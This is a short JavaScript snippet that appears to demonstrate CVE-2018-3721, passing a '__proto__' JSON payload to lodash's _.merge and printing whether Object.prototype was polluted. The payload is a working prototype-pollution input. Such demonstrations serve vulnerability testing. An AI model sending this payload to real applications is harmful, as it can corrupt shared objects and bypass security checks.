// CVE-2018-3721: _.merge copies "__proto__" onto Object.prototype.
const _ = require('lodash');
_.merge({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
